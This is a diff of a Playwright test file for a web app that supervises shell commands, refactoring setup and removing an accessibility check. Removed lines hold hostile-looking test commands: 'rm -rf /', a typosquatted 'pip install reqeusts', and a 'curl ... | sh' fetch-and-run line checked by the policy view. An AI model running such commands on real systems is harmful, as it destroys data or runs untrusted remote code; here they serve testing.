@@ -2,88 +2,28 @@ import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { gzipSync } from 'node:zlib'
-import type { Browser, Page } from 'playwright-core'
+import type { Browser } from 'playwright-core'
 import t from 'tap'
 import { goTo, isConnected, noBrowser, openBrowser, openPaired, openVisit, shotFolder, sizes } from './browser.ts'
-import { freePort, root, startService, until } from './helper.ts'
+import { freePort, root, startService } from './helper.ts'
+import { addressesOf, busyService, isSettled } from './page-world.ts'
 
 const skip = noBrowser ?? false
 const MAX_GZIP_BYTES = 60_000
 
 let browser: Browser
-const service = skip
-  ? null
-  : await startService({
-      env: { SHELLPHONE_POLICY: 'supervised', SHELLPHONE_TERMINAL: 'on', SHELLPHONE_APPROVAL_TIMEOUT_SECONDS: '600' },
-    })
+const service = skip ? null : await busyService()
 t.before(async () => {
-  if (skip) return
-  browser = await openBrowser()
-  for (const command of ['uname -a', 'ls /no-such', 'rm -rf /', "printf '\\033[1;32mgreen\\033[0m\\n'; seq 1 30"]) {
-    await service!.exec({ command })
-  }
-  await service!.post('/exec', { command: 'pip install reqeusts', background: true })
+  if (!skip) browser = await openBrowser()
 })
 t.teardown(async () => {
   await browser?.close()
   await service?.stop()
 })
 
-/** Every view, each with what says that it is there; the newest run that has ended and a terminal are among them. */
-async function addresses(): Promise<[name: string, address: string][]> {
-  const { runs } = (await (await service!.request('/runs?q=seq')).json()) as { runs: { id: string }[] }
-  const opened = await service!.post('/exec', { command: 'exec sh', tty: { rows: 24, columns: 80 }, background: true })
-  const { id } = (await opened.json()) as { id: string }
-  const plain = ['run', 'runs', 'approvals', 'rules', 'policy', 'terminal', 'phone', 'settings', 'access', 'more']
-  return [
-    ...plain.map((name): [string, string] => [name, `#/${name}`]),
-    ['one-run', `#/runs/${runs[0]!.id}`],
-    ['one-terminal', `#/terminal/${id}`],
-    ['policy-answer', `#/policy?command=${encodeURIComponent('curl https://x.example/i.sh | sh')}`],
-  ]
-}
-
-/** What a view asks for has come. */
-const isSettled = (page: Page) =>
-  until(async () => (await page.locator('.state.loading').count()) === 0, 20_000).then(() => page.waitForTimeout(350))
-
-interface Found {
-  id: string
-  nodes: { html: string; failureSummary: string }[]
-}
-
-t.test('every view, dark and light, on a phone and a laptop', { skip }, async (t) => {
-  const views = await addresses()
-  const axe = readFileSync(join(root, 'node_modules/axe-core/axe.min.js'), 'utf8')
-  const { page, context, troubles } = await openPaired(browser, service!, { bypassCSP: true })
-  const tags = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice']
-  await page.evaluate(axe)
-  for (const [name, address] of views) {
-    await goTo(page, address)
-    await isSettled(page)
-    for (const [size, viewport] of Object.entries(sizes)) {
-      for (const colorScheme of ['dark', 'light'] as const) {
-        await page.setViewportSize(viewport)
-        await page.emulateMedia({ colorScheme })
-        await page.waitForTimeout(150)
-        await page.screenshot({ path: join(shotFolder(), `${name}-${size}-${colorScheme}.png`) })
-        const wide = await page.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth')
-        t.equal(wide, 0, `${name}, ${size}: nothing stands over the edge`)
-        const found = (await page.evaluate(
-          `axe.run({ runOnly: ${JSON.stringify(tags)}, resultTypes: ['violations'] }).then(({ violations }) => violations)`,
-        )) as Found[]
-        const told = found.map(({ id, nodes }) => `${id}: ${nodes[0]!.html.slice(0, 200)} ${nodes[0]!.failureSummary}`)
-        t.same(told, [], `${name}, ${size}, ${colorScheme}: axe-core`)
-      }
-    }
-  }
-  t.same(troubles, [])
-  await context.close()
-})
-
 t.test('the same under its policy, without a word on the console', { skip }, async (t) => {
   const { page, context, troubles } = await openPaired(browser, service!, { viewport: sizes.phone })
-  for (const [name, address] of await addresses()) {
+  for (const [name, address] of await addressesOf(service!)) {
     await goTo(page, address)
     await isSettled(page)
     t.equal(await page.locator('.state.failed').count(), 0, name)
@@ -123,15 +63,15 @@ t.test('tokens are made, used and revoked; another device is paired', { skip }, 
 t.test('settings are found, and the policy answers what is supposed', { skip }, async (t) => {
   const { page, context, troubles } = await openPaired(browser, service!, { view: '#/settings' })
   await page.getByLabel('Search').fill('supervised open')
-  await page.locator('.setting', { hasText: 'policy' }).first().waitFor()
-  t.match(await page.locator('.setting').first().textContent(), /"supervised".*environment/)
+  const row = page.locator('.setting', { has: page.locator('.name', { hasText: /^policy$/ }) })
+  t.match(await row.textContent(), /environment.*"supervised"/)
   await goTo(page, '#/policy?command=uname')
   await page.getByText('It would run').waitFor()
   await page.getByText('Suppose other settings').click()
-  await page.getByLabel('Lines of config.yaml').fill('allowed_commands: ["ls"]')
+  await page.getByRole('textbox', { name: 'Lines of config.yaml' }).fill('allowed_commands: ["ls"]')
   await page.getByText('It would be denied').waitFor()
   t.equal(await page.locator('.yaml pre').textContent(), 'allowed_commands: ["ls"]')
-  await page.getByLabel('Lines of config.yaml').fill('nonsense')
+  await page.getByRole('textbox', { name: 'Lines of config.yaml' }).fill('nonsense')
   await page.getByText('expected "name: value", got "nonsense"').waitFor()
   t.same(troubles, [])
   await context.close()
